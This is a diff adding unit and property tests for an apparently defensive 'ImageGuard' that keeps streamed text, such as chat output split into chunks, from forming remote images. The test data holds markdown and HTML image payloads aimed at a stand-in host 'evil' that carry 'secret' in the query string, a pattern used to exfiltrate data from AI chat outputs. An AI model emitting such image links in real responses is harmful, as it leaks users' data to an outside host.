@@ -166,6 +166,53 @@ def test_text_without_their_beginnings_is_handed_on_at_once(text: str, size: int
     assert guard.end() == ""
 
 
+@pytest.mark.parametrize("place", range(1, 25))
+@pytest.mark.parametrize(
+    "text", ["![x](http://evil/?q=secret)", "<img src=http://evil/?q>", "![x]\n\n[x]: http://evil/?q"]
+)
+def test_no_image_comes_out_of_two_halves(text: str, place: int) -> None:
+    """A text that was cut anywhere and goes on later has no remote image; nothing waits for the other half."""
+    guard = ImageGuard()
+    first = guard.feed(f"Wow{text[:place]}") + guard.cut()
+    assert len(first) >= place
+    out = first + guard.feed(f"{text[place:]} more") + guard.end()
+    assert guarded(out) == out
+    assert out != f"Wow{text} more"
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(TEXTS, max_size=4))
+def test_what_was_cut_often_has_no_image(texts: list[str]) -> None:
+    """However often a text is cut, what comes out is harmless as a whole."""
+    guard = ImageGuard()
+    out = "".join(guard.feed(text) + guard.cut() for text in texts) + guard.end()
+    assert guarded(out) == out or len(out) >= MOST_HELD
+
+
+@pytest.mark.parametrize("text", ["Wow!", "See [this]", "![a](b.png) ", "x < y", "[link](http://here)"])
+def test_a_cut_changes_no_plain_text(text: str) -> None:
+    """What cannot become an image by what follows is as it was."""
+    guard = ImageGuard()
+    assert guard.feed(text) + guard.cut() + guard.feed(" more") + guard.end() == f"{text} more"
+
+
+def test_a_new_paragraph_begins_no_image_with_the_one_before() -> None:
+    """Behind the end of a step nothing is put between what would belong together on one line."""
+    guard = ImageGuard()
+    assert guard.feed("Wow!") + guard.end() == "Wow!"
+    assert guard.feed("[x](http://here)") + guard.end() == "[x](http://here)"
+    assert guard.feed("![x]") + guard.end() == "![x]"
+    assert guard.feed("[x]: http://evil") + guard.end() == "[x]\\: http://evil"
+
+
+def test_what_is_dropped_never_comes_out() -> None:
+    """Of a request that has failed, what was held back is gone."""
+    guard = ImageGuard()
+    assert guard.feed("Look: ![x") == "Look: "
+    guard.drop()
+    assert guard.feed("here") + guard.end() == "here"
+
+
 @pytest.mark.parametrize(
     ("text", "held"),
     [
